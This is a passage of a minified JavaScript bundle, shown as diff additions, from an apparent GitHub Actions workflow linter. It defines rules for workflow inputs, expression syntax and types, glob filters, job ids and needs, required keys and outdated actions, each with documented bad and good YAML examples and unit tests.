+`,expect:[{line:3,col:5,message:'"paths" filter is not available for merge_group event. it is only for push, pull_request, pull_request_target events'},{line:5,col:5,message:'"tags" filter is not available for pull_request event. it is only for push event'},{line:7,col:5,message:'"branches" filter is not available for pull_request_review event'}]},{name:"exclusive filters",input:`on:
+  push:
+    branches: [main]
+    tags: [v1]
+    branches-ignore: [x]
+    paths-ignore: [docs/**]
+    paths: [src/**]
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:5,col:5,message:'both "branches" and "branches-ignore" filters cannot be used for the same event "push"'},{line:7,col:5,message:'both "paths" and "paths-ignore"'}]},{name:"valid filters",input:`on:
+  push:
+    branches: [main, '!wip/**']
+    tags: [v*]
+    paths-ignore: [docs/**]
+  pull_request:
+    types: [opened, synchronize, ready_for_review]
+    branches-ignore: [gh-pages]
+  workflow_run:
+    workflows: [CI]
+    types: [completed]
+    branches: [main]
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[]}]},ny=O1;var qe=U(ke());var sy=25;function S1(n){return n.trim()!==""&&!isNaN(Number(n))}var M1={id:"event-inputs",language:"workflow",severity:"error",compat:{actionlint:"events"},docs:{summary:"Inputs of `workflow_dispatch` and `workflow_call` that GitHub rejects or that cannot work: a `choice` without options, a default that is not one of the options or not of the input's type, `options` on a non-choice input, duplicate options, more than 25 dispatch inputs, and a required input with a default (a warning: the default is never used).",why:'GitHub rejects the workflow or the "Run workflow" form, and a default of the wrong type fails every run that relies on it.',bad:`on:
+  workflow_dispatch:
+    inputs:
+      env:
+        type: choice
+        options: [staging, production]
+        default: prod
+jobs:
+  deploy:
+    runs-on: ubuntu-latest
+    steps:
+      - run: ./deploy.sh "\${{ inputs.env }}"
+`,good:`on:
+  workflow_dispatch:
+    inputs:
+      env:
+        type: choice
+        options: [staging, production]
+        default: production
+jobs:
+  deploy:
+    runs-on: ubuntu-latest
+    steps:
+      - run: ./deploy.sh "\${{ inputs.env }}"
+`},check({model:n,report:e}){for(let t of ne(n).events){if(t.name!=="workflow_dispatch"&&t.name!=="workflow_call"||!(0,qe.isMap)(t.config))continue;let s=z(n,t.config).get("inputs"),i=$e(n,s);if(!i)continue;let r=t.name==="workflow_dispatch";r&&i.items.length>sy&&e({message:`maximum number of inputs for "workflow_dispatch" event is ${sy} but ${i.items.length} inputs are provided. see https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows#providing-inputs`,range:n.keyRange(s)});for(let o of i.items){let a=_(o.key),c=L(n,o.value);if(a===void 0||!(0,qe.isMap)(c))continue;let l=z(n,c),u=L(n,l.get("type")?.value),p=_(u)??(r?"string":void 0),d=l.get("default"),f=L(n,d?.value),m=(0,qe.isScalar)(f)?_(f):void 0,g=m?.includes("${{"),h=r?`input ${JSON.stringify(a)} of workflow_dispatch event`:`input ${JSON.stringify(a)} of workflow_call event`,y=n.keyRange(o);if(r){let k=l.get("options"),v=L(n,k?.value);if(p==="choice")if(!(0,qe.isSeq)(v)||v.items.length===0)e({message:`input type of ${JSON.stringify(a)} is "choice" but "options" is not set`,range:y});else{let O=new Map,R=[];for(let M of v.items){let S=L(n,M),q=_(S);q!==void 0&&(R.push(q),O.has(q)?e({message:`option ${JSON.stringify(q)} is duplicated in options of ${JSON.stringify(a)} input`,range:n.rangeOf(S)}):O.set(q,S))}m!==void 0&&!g&&f&&(0,qe.isScalar)(f)&&f.value!==null&&!R.includes(m)&&e({message:`default value ${JSON.stringify(m)} of ${JSON.stringify(a)} input is not included in its options ${R.map(M=>JSON.stringify(M)).join(", ")}`,range:n.rangeOf(f)})}else k&&e({message:`"options" can not be set to ${JSON.stringify(a)} input because its input type is not "choice"`,range:y})}if(f&&(0,qe.isScalar)(f)&&f.value!==null&&!g&&m!==void 0){let k=n.rangeOf(f);p==="boolean"&&typeof f.value!="boolean"&&!/^(true|false)$/.test(m)&&e({message:`${h} is typed as boolean. its default value must be true or false but got ${JSON.stringify(m)}`,range:k}),p==="number"&&typeof f.value!="number"&&!S1(m)&&e({message:`${h} is typed as number but its default value ${JSON.stringify(m)} cannot be parsed as a number`,range:k})}let w=L(n,l.get("required")?.value);!r&&(0,qe.isScalar)(w)&&w.value===!0&&f&&(0,qe.isScalar)(f)&&f.value!==null&&e({message:`${h} has the default value ${JSON.stringify(m??"")}, but it is also required. if an input is marked as required, its default value will never be used`,range:n.rangeOf(f),severity:"warning"})}}},tests:[{name:"choice inputs",input:`on:
+  workflow_dispatch:
+    inputs:
+      a:
+        type: choice
+      b:
+        type: choice
+        options: [x, y, x]
+        default: z
+      c:
+        type: boolean
+        options: [x]
+        default: foo
+      d:
+        type: number
+        default: hello
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:4,col:7,message:'input type of "a" is "choice" but "options" is not set'},{line:8,col:25,message:'option "x" is duplicated'},{line:9,col:18,message:'default value "z" of "b" input is not included in its options'},{line:10,col:7,message:'"options" can not be set to "c" input'},{line:13,col:18,message:"typed as boolean"},{line:16,col:18,message:"cannot be parsed as a number"}]},{name:"workflow_call defaults",input:`on:
+  workflow_call:
+    inputs:
+      n:
+        type: number
+        default: foooo
+      b:
+        type: boolean
+        default: '123'
+      r:
+        type: string
+        required: true
+        default: a
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:6,col:18,message:"cannot be parsed as a number"},{line:9,col:18,message:"typed as boolean"},{line:13,col:18,message:"it is also required",severity:"warning"}]},{name:"more than 25 dispatch inputs",input:`on:
+  workflow_dispatch:
+    inputs:
+${Array.from({length:26},(n,e)=>`      i${e}:
+        type: string
+`).join("")}jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:3,col:5,message:"maximum number of inputs"}]},{name:"valid inputs",input:`on:
+  workflow_dispatch:
+    inputs:
+      env:
+        type: choice
+        options: [a, b]
+        default: b
+      dry:
+        type: boolean
+        default: false
+      n:
+        type: number
+        default: '3'
+      where:
+        type: environment
+      s:
+        default: x
+  workflow_call:
+    inputs:
+      flag:
+        type: boolean
+        default: \${{ github.event_name == 'push' }}
+      opt:
+        type: string
+        required: false
+        default: x
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[]}]},iy=M1;var A1={id:"expression-placement",language:"workflow",severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"A value that must be a literal of a type or one single `${{ }}` (booleans such as `continue-on-error`, numbers such as `timeout-minutes`, an `env:` mapping), or a `${{ }}` where GitHub does not evaluate expressions (`uses`).",why:"`continue-on-error: yes please` or `timeout-minutes: ${{ x }}0` are rejected by GitHub, and `uses: ${{ ... }}` is never evaluated.",bad:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    timeout-minutes: \${{ vars.T }} minutes
+    steps:
+      - run: echo hi
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    timeout-minutes: \${{ fromJSON(vars.T) }}
+    steps:
+      - run: echo hi
+`},check(n){pe(n,"expression-placement")},tests:[{name:"plain text where a boolean, an integer or a mapping is expected",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    continue-on-error: maybe
+    strategy:
+      max-parallel: \${{ 1 }}\${{ 2 }}
+    env: FOO=1
+    steps:
+      - uses: \${{ vars.ACTION }}
+`,expect:[{line:5,col:24,message:"boolean literal"},{line:7,message:"integer literal"},{line:8,message:'mapping value for "env"'},{line:10,message:"not evaluated"}]},{name:"literals and single expressions",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    continue-on-error: \${{ github.ref == 'x' }}
+    timeout-minutes: 10
+    env: \${{ fromJSON(vars.ENV) }}
+    steps:
+      - run: echo
+        continue-on-error: true
+`,expect:[]}]},ry=A1;var N1={id:"expression-syntax",language:"workflow",severity:"error",compat:{actionlint:"expression"},docs:{summary:"A `${{ }}` expression (or an `if:` condition) that GitHub cannot parse: bad characters, double-quoted strings, unbalanced parentheses, a missing `}}`.",why:"GitHub rejects the whole workflow when one expression does not parse, and only tells you after the push. The finding points at the exact character inside the expression.",bad:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "\${{ github.event_name == "push" }}"
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "\${{ github.event_name == 'push' }}"
+`},check(n){pe(n,"expression-syntax")},tests:[{name:"double-quoted string inside an expression",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "\${{ github.ref == "main" }}"
+`,expect:[{line:6,col:38,message:"only single quotes"}]},{name:"missing closing braces",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo \${{ github.ref
+`,expect:[{line:6,message:'"}}" is missing'}]},{name:"unbalanced parentheses in a bare if",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    if: (github.ref == 'x'
+    steps:
+      - run: echo
+`,expect:[{line:5,message:"unbalanced parentheses"}]},{name:"position inside a literal block scalar",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          echo one
+          echo \${{ github.ref = 1 }}
+`,expect:[{line:8,col:31,message:"'='"}]},{name:"position inside a single-quoted scalar with escaped quotes",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: 'it''s \${{ github.ref ] }}'
+`,expect:[{line:6,col:36,message:'unexpected "]"'}]},{name:"valid expressions of every kind",input:"on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    if: github.ref == 'refs/heads/main' && !cancelled()\n    steps:\n      - run: echo ${{ 0x1F }} ${{ 1.5e3 }} ${{ -2 }} ${{ 'it''s' }} ${{ null }} ${{ github.event.commits[0].message }} ${{ toJSON(github.event.commits.*.id) }}\n",expect:[]}]},oy=N1;var E1={id:"expression-type",language:"workflow",severity:"error",compat:{actionlint:"expression"},docs:{summary:"Type errors in expressions: wrong number or types of function arguments, `format()` placeholders that do not match its arguments, broken JSON given to `fromJSON()`, objects printed into strings, comparisons that are always false.",why:"These expressions run but do not do what they say: `format('{0} {1}', a)` fails at run time, comparing a string with an object is always false, and `${{ github.event }}` prints `Object`.",bad:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo \${{ format('{0}-{1}', github.ref) }}
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo \${{ format('{0}-{1}', github.ref, github.sha) }}
+`},check(n){pe(n,"expression-type")},tests:[{name:"arity and placeholders",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo \${{ startsWith(github.ref) }} \${{ format('{0}', 1, 2) }}
+`,expect:[{line:6,col:23,message:"number of arguments is wrong"},{line:6,message:"does not contain placeholder {1}"}]},{name:"broken JSON and object in a template",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo \${{ fromJSON('{"a":') }} \${{ github.event }}
+`,expect:[{line:6,message:"broken JSON"},{line:6,message:"should not be evaluated in template",severity:"warning"}]},{name:"comparison with an object is a warning",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+        if: github.ref == fromJSON('{}')
+`,expect:[{line:7,message:"cannot be compared",severity:"warning"}]},{name:"typed keys",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    continue-on-error: \${{ github.ref }}
+    container:
+      image: x
+      credentials: \${{ github.ref }}
+    steps:
+      - run: echo
+`,expect:[{line:5,message:"must be bool"},{line:8,message:"must be object"}]},{name:"well-typed expressions",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    timeout-minutes: \${{ fromJSON(vars.T) }}
+    steps:
+      - run: echo \${{ format('{0}{{x}}', github.ref) }} \${{ join(github.event.commits.*.id, ',') }} \${{ contains(fromJSON('["a"]'), github.ref) }} \${{ toJSON(github.event) }}
+`,expect:[]}]},ay=E1;var jn=U(ke());var Ue="note: filter pattern syntax is explained at https://docs.github.com/en/actions/using-workflows/workflow-syntax-for-github-actions#filter-pattern-cheat-sheet",F1=new Set(["branches","branches-ignore","tags","tags-ignore"]),C1=new Set(["paths","paths-ignore"]),L1=new Set(["names","versions"]);function D1(n,e){let t=[];if(n==="")return t;if(e==="path"&&n!==n.trim())return t.push({at:0,message:`leading and trailing spaces are not allowed in glob path. ${Ue}`}),t;let s=0;if(n[0]==="!"){if(n.length===1)return[{at:0,message:`invalid glob pattern: at least one character must follow "!" (a negated pattern). ${Ue}`}];s=1}let i=n.slice(s);for(e==="path"&&i.split("/").some(r=>r==="."||r==="..")&&t.push({at:0,message:`'.' and '..' are not allowed in glob path. ${Ue}`}),e==="ref"&&(i.startsWith("/")&&t.push({at:s,message:`character '/' is invalid for branch and tag names. ref name must not start with /. see \`man git-check-ref-format\`. note that regular expressions are not available. ${Ue}`}),/[/.]$/.test(i)&&!i.endsWith("*")&&t.push({at:n.length-1,message:`character '${n[n.length-1]}' is invalid for branch and tag names. ref name must not end with / or . (see \`man git-check-ref-format\`). ${Ue}`}));s<n.length;s++){let r=n[s];if(r==="\\"){let o=n[s+1];e==="ref"&&(o===void 0||!"[?+*\\!".includes(o))&&t.push({at:s,message:`character '\\' is invalid for branch and tag names. only special characters [, ?, +, *, \\, ! can be escaped with \\. note that regular expressions are not available. ${Ue}`}),s++;continue}if(r==="["){let o=n.indexOf("]",s+1);if(o<0){t.push({at:n.length-1,message:`invalid glob pattern: missing "]" to close the character match "[" at ${s+1}. ${Ue}`});break}let a=n.slice(s+1,o);a.length===1&&t.push({at:o,message:`character match with a single character is useless: simply use ${a} instead of [${a}]. ${Ue}`,severity:"warning"});for(let c=0;c+2<a.length;c++)a[c+1]==="-"&&a[c]>a[c+2]&&(t.push({at:s+1+c+2,message:`invalid glob pattern: start of range '${a[c]}' is larger than its end '${a[c+2]}' in [${a}]. ${Ue}`}),c+=2);s=o;continue}if(e==="ref"&&/[\s~^:]/.test(r)){t.push({at:s,message:`character '${r}' is invalid for branch and tag names. ref name cannot contain spaces, ~, ^, :. see \`man git-check-ref-format\`. note that regular expressions are not available. ${Ue}`});break}e!=="ref"&&r===`
+`&&s===n.length-1&&t.push({at:0,message:`leading and trailing spaces are not allowed in glob path. ${Ue}`})}return t}var T1={id:"glob-pattern",language:"workflow",severity:"error",compat:{actionlint:"glob"},docs:{summary:"Branch, tag and path filters must be valid filter patterns: brackets closed, ranges in order, no characters git forbids in ref names, no `.`/`..` segments or surrounding spaces in paths, and `!` followed by a pattern.",why:"An invalid pattern makes the trigger never match (or GitHub reject the workflow), and the filters are regular-expression-like enough that `v\\d+` or `[x]` look right but are not.",bad:`on:
+  push:
+    tags: ['v\\d+']
+    paths: ['./src/**']
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+`,good:`on:
+  push:
+    tags: ['v[0-9]+']
+    paths: ['src/**']
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+`},check({model:n,report:e}){let t=ne(n),s=(i,r)=>{if(!(0,jn.isScalar)(i)||typeof i.value!="string"||i.value.includes("${{"))return;let o=Bs(i);for(let a of D1(i.value,r)){let c;o?.exact?c=n.lines.range(o.offsets[a.at]??i.range[0],(o.offsets[a.at]??i.range[0])+1):c=n.rangeOf(i),e({message:a.message,range:c,severity:a.severity})}};for(let i of t.events)if((0,jn.isMap)(i.config))for(let[r,o]of z(n,i.config)){let a=F1.has(r)?"ref":C1.has(r)?"path":L1.has(r)&&i.name==="image_version"?"other":void 0;if(!a)continue;let c=L(n,o.value);if((0,jn.isSeq)(c))for(let l of c.items)s(L(n,l),a);else s(c,a)}},tests:[{name:"ref names",input:`on:
+  push:
+    branches:
+      - '[x]'
+      - 'a b'
+    tags:
+      - /v\\d+/
+      - v[0-
+      - v[9-0]
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:4,col:12,message:"single character",severity:"warning"},{line:5,col:11,message:"character ' ' is invalid"},{line:7,col:9,message:"must not start with /"},{line:7,col:11,message:"character '\\' is invalid"},{line:7,col:14,message:"must not end with /"},{line:8,col:12,message:'missing "]"'},{line:9,col:13,message:"start of range '9' is larger than its end '0'"}]},{name:"paths",input:`on:
+  pull_request:
+    paths:
+      - '!'
+      - ' foo'
+      - './foo/bar.txt'
+      - |
+        foo.txt
+  image_version:
+    versions: ['v[0-']
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:4,col:10,message:'at least one character must follow "!"'},{line:5,col:10,message:"leading and trailing spaces"},{line:6,col:10,message:"'.' and '..' are not allowed"},{line:8,col:9,message:"leading and trailing spaces"},{line:10,col:20,message:'missing "]"'}]},{name:"valid patterns",input:`on:
+  push:
+    branches: ['**', 'release/v12', 'feature/*', '!wip/**', 'v[0-9]+.*']
+    tags: ['v*', 'v\\*']
+    paths: ['src/**/*.ts', '!docs/**', '**.md', 'foo\\bar', '.github/workflows/*.yml']
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[]}]},cy=T1;var j1={id:"if-always-true",language:"workflow",severity:"error",compat:{actionlint:"if-cond"},docs:{summary:"An `if:` whose value has text around its `${{ }}`, which makes it a non-empty string: always true.",why:"`if: ${{ false }} && ${{ false }}` or a trailing space after `}}` is not evaluated as a condition: the result is a string, and every non-empty string is true, so the job or step always runs.",bad:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo deploy
+        if: \${{ github.ref == 'refs/heads/main' }} && \${{ github.event_name == 'push' }}
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo deploy
+        if: \${{ github.ref == 'refs/heads/main' && github.event_name == 'push' }}
+`},check(n){pe(n,"if-always-true")},tests:[{name:"negation outside the braces",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+        if: '!\${{ cancelled() }}'
+`,expect:[{line:7,col:13,message:"always evaluated to true"}]},{name:"trailing newline of a block scalar",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+        if: |
+          \${{ false }}
+`,expect:[{line:7,message:"always evaluated to true"}]},{name:"single expression or bare condition",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    if: \${{ github.ref == 'x' }}
+    steps:
+      - run: echo
+        if: github.ref == 'x'
+`,expect:[]}]},ly=j1;var uy=/^[A-Za-z_][A-Za-z0-9_-]*$/,_1={id:"invalid-id",language:["workflow","action"],severity:"error",compat:{actionlint:"id"},docs:{summary:"Job and step ids must start with a letter or `_` and contain only letters, digits, `-` and `_`; step ids must be unique within a job (ignoring case).",why:"GitHub rejects the workflow. Ids are what `needs`, `needs.<id>.outputs` and `steps.<id>.outputs` refer to, so a version number (`v1.2`) or a duplicate id breaks those references.",bad:`on: push
+jobs:
+  build-1.0:
+    runs-on: ubuntu-latest
+    steps:
+      - id: version
+        run: echo "v=1" >> "$GITHUB_OUTPUT"
+      - id: version
+        run: echo done
+`,good:`on: push
+jobs:
+  build-1_0:
+    runs-on: ubuntu-latest
+    steps:
+      - id: version
+        run: echo "v=1" >> "$GITHUB_OUTPUT"
+      - id: done
+        run: echo done
+`},check({model:n,report:e}){for(let s of ne(n).jobs)!uy.test(s.id)&&!s.id.includes("${{")&&e({message:`invalid job ID ${JSON.stringify(s.id)}. job ID must start with a letter or _ and contain only alphanumeric characters, -, or _`,range:s.keyRange});let t=new Map;for(let{job:s,step:i}of St(n)){if(i.id===void 0||!i.idNode||i.id.includes("${{"))continue;let r=n.rangeOf(i.idNode);if(!uy.test(i.id)){e({message:`invalid step ID ${JSON.stringify(i.id)}. step ID must start with a letter or _ and contain only alphanumeric characters, -, or _`,range:r});continue}let o=s?.id??"",a=t.get(o);a||t.set(o,a=new Map);let c=a.get(i.id.toLowerCase());c?e({message:`step ID ${JSON.stringify(i.id)} duplicates. previously defined at step:${c.index+1} line:${c.line},col:${c.col}. step ID must be unique within a job. note that step ID is case insensitive`,range:r}):a.set(i.id.toLowerCase(),{line:r.start.line+1,col:r.start.character+1,index:i.index})}},tests:[{name:"invalid job and step ids",input:`on: push
+jobs:
+  -foo:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+        id: v1.2.3
+  1-2-3:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+        id: "-x"
+`,expect:[{line:3,col:3,message:'invalid job ID "-foo"'},{line:7,col:13,message:'invalid step ID "v1.2.3"'},{line:8,col:3,message:'invalid job ID "1-2-3"'},{line:12,col:13,message:'invalid step ID "-x"'}]},{name:"duplicate step ids (case-insensitive)",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - id: build
+        run: echo
+      - id: Build
+        run: echo
+  b:
+    runs-on: ubuntu-latest
+    steps:
+      - id: build
+        run: echo
+`,expect:[{line:8,col:13,message:'step ID "Build" duplicates. previously defined at step:1 line:6,col:13'}]},{name:"composite action steps",path:"action.yml",input:`name: a
+description: d
+runs:
+  using: composite
+  steps:
+    - id: x.y
+      run: echo
+      shell: bash
+`,expect:[{line:6,col:11,message:'invalid step ID "x.y"'}]},{name:"valid ids",input:`on: push
+jobs:
+  _build-all_2:
+    runs-on: ubuntu-latest
+    steps:
+      - id: step_1
+        run: echo
+      - id: Step-2
+        run: echo
+`,expect:[]}]},py=_1;var $1={id:"job-needs",language:"workflow",severity:"error",compat:{actionlint:"job-needs"},docs:{summary:"`needs:` must name jobs of the same workflow, without cycles; a job listed twice is a warning.",why:"GitHub rejects a workflow whose `needs` names a missing job or forms a cycle \u2014 often after a job was renamed.",bad:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+  deploy:
+    needs: biuld
+    runs-on: ubuntu-latest
+    steps:
+      - run: make deploy
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+  deploy:
+    needs: build
+    runs-on: ubuntu-latest
+    steps:
+      - run: make deploy
+`},check({model:n,report:e}){let t=ne(n),s=t.jobs.map(c=>c.id);for(let c of t.jobs){let l=new Set;for(let u of c.needs){if(u.name.includes("${{"))continue;let p=n.rangeOf(u.node),d=u.name.toLowerCase();if(l.has(d)){e({message:`job ID ${JSON.stringify(u.name)} is duplicated in "needs" section of job ${JSON.stringify(c.id)}`,range:p,severity:"warning"});continue}if(l.add(d),t.jobById.has(d))d===c.id.toLowerCase()&&(e({message:`job ${JSON.stringify(c.id)} needs itself`,range:p}),l.add(d));else{let f=se(u.name,s.filter(m=>m!==c.id),u.name.length>=4?2:1);e({message:`job ${JSON.stringify(c.id)} needs job ${JSON.stringify(u.name)} which does not exist in this workflow`+(f?`. Did you mean ${JSON.stringify(f)}?`:""),range:p,fixes:f?[{title:`Change to "${f}"`,preferred:!0,edits:[{range:p,newText:f}]}]:void 0})}}}let i=new Map,r=[],o=new Set,a=c=>{i.set(c,1),r.push(c);let l=t.jobById.get(c);for(let u of l.needs){let p=u.name.toLowerCase();if(!(!t.jobById.has(p)||p===c))if(i.get(p)===1){let d=r.slice(r.indexOf(p)),f=[...d].sort().join(",");if(!o.has(f)){o.add(f);let g=d.map(w=>t.jobById.get(w)).reduce((w,k)=>w.keyRange.start.line<=k.keyRange.start.line?w:k),h=d.indexOf(g.id.toLowerCase()),y=[...d.slice(h),...d.slice(0,h)].map(w=>t.jobById.get(w).id);e({message:`cyclic dependencies in "needs" job configurations are detected. detected cycle is ${[...y,y[0]].map(w=>JSON.stringify(w)).join(" -> ")}`,range:g.keyRange})}}else i.has(p)||a(p)}r.pop(),i.set(c,2)};for(let c of t.jobs)i.has(c.id.toLowerCase())||a(c.id.toLowerCase())},tests:[{name:"unknown job with a fix",input:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+  test:
+    needs: [biuld, lint]
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+`,expect:[{line:8,col:13,message:'needs job "biuld" which does not exist in this workflow. Did you mean "build"?'},{line:8,col:20,message:'"lint"'}]},{name:"cycles and duplicates",input:`on: push
+jobs:
+  a:
+    needs: c
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+  b:
+    needs: [a, A]
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+  c:
+    needs: b
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+  d:
+    needs: d
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:3,col:3,message:'detected cycle is "a" -> "c" -> "b" -> "a"'},{line:9,col:16,message:"duplicated",severity:"warning"},{line:19,col:12,message:"needs itself"}]},{name:"valid needs (case-insensitive)",input:`on: push
+jobs:
+  Build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+  test:
+    needs: build
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+  deploy:
+    needs: [Build, test]
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[]}]},dy=$1;var I1={id:"missing-key",language:["workflow","action"],severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"Keys GitHub requires are missing: `on` and `jobs` in a workflow, `runs-on` and `steps` in a job, `run` or `uses` in a step, `type` of a `workflow_call` input, `value` of an output, `image` of a container, `name`/`description`/`runs` in action metadata, and so on.",why:"GitHub refuses the whole workflow when a required key is missing, often with a message far from the cause. Seeing it in the editor saves a push and a failed run.",bad:`on: push
+jobs:
+  build:
+    steps:
+      - run: make
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+`},check(n){fe(n,"missing-key")},tests:[{name:"empty workflow",input:`# nothing yet
+`,expect:[{line:1,message:"workflow is empty"}]},{name:"missing on and jobs",input:`name: x
+`,expect:[{line:1,message:'"on" section is missing'},{line:1,message:'"jobs" section is missing'}]},{name:"job without runs-on and steps, step without run or uses",input:`on: push
+jobs:
+  test:
+    name: t
+  b:
+    runs-on: ubuntu-latest
+    steps:
+      - name: nothing
+`,expect:[{line:3,col:3,message:'"runs-on" is missing in job "test"'},{line:3,col:3,message:'"steps" section is missing in job "test"'},{line:8,col:9,message:'step must run a script with "run" or run an action with "uses"'}]},{name:"workflow_call input type and output value",input:`on:
+  workflow_call:
+    inputs:
+      foo:
+        description: d
+    outputs:
+      bar:
+        description: d
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:4,col:7,message:'"type" is missing in input "foo" of workflow_call event'},{line:7,col:7,message:'"value" is missing in output "bar" of workflow_call event'}]},{name:"container image, credentials pair, environment name, concurrency group",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    container:
+      options: --cpus 1
+      credentials:
+        username: u
+    environment:
+      url: https://x
+    concurrency:
+      cancel-in-progress: true
+    steps:
+      - run: echo
+`,expect:[{line:5,col:5,message:'"image" is missing in "container" section'},{line:7,col:7,message:'both "username" and "password"'},{line:9,col:5,message:'"name" is missing in "environment" section'},{line:11,col:5,message:'"group" is missing in "concurrency" section'}]},{name:"action metadata",path:"action.yml",input:`name: a
+runs:
+  using: node20
+`,expect:[{line:1,message:'"description" is missing'},{line:2,message:'"main" is missing'}]},{name:"composite run steps need a shell",path:"action.yml",input:`name: a
+description: d
+runs:
+  using: composite
+  steps:
+    - run: echo
+`,expect:[{line:6,message:'"shell" is missing'}]},{name:"complete workflow, reusable call job and container string",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    container: node:20
+    steps:
+      - uses: actions/checkout@v4
+  b:
+    uses: ./.github/workflows/x.yml
+`,files:{".github/workflows/x.yml":`on: workflow_call
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`},expect:[]}]},fy=I1;var P1={id:"outdated-action",language:["workflow","action"],severity:"warning",compat:{actionlint:"action"},docs:{summary:"A popular action is used at a major version whose runtime (node12, node16) GitHub no longer provides, or at an archived version.",why:"GitHub forces such actions onto a newer Node.js, and they break or stop being supported without notice. The fix moves to the current major version (check its release notes for changed inputs).",bad:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v2
+      - uses: actions/setup-python@v3
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - uses: actions/setup-python@v5
+`},check({model:n,report:e}){for(let{step:t}of St(n)){if(!t.uses||!t.usesNode)continue;let s=fo(t.uses.trim());if(!s)continue;let i=mo(s.name),r=go(s.ref);if(!i||i.minMajor===void 0||r===void 0||r>=i.minMajor)continue;let o=n.rangeOf(t.usesNode),a=`${s.name}@${i.current}`,c=i.minMajor>=99;e({message:c?`the action "${t.uses.trim()}" is archived and runs on a Node.js runtime GitHub no longer provides; replace it with a maintained action`:`the runner of "${t.uses.trim()}" action is too old to run on GitHub Actions. update the action's version to fix this issue (current: ${i.current})`,range:o,fixes:c?void 0:[{title:`Update to ${a}`,preferred:!0,edits:[{range:o,newText:a}]}]})}},tests:[{name:"outdated majors with a fix",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v2
+      - uses: actions/cache@v3.3.1
+        with:
+          path: x
+          key: k
+      - uses: actions/create-release@v1
+`,expect:[{line:6,col:15,message:'the runner of "actions/checkout@v2" action is too old'},{line:7,col:15,message:"actions/cache@v3.3.1"},{line:11,col:15,message:"archived"}],fixed:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v5
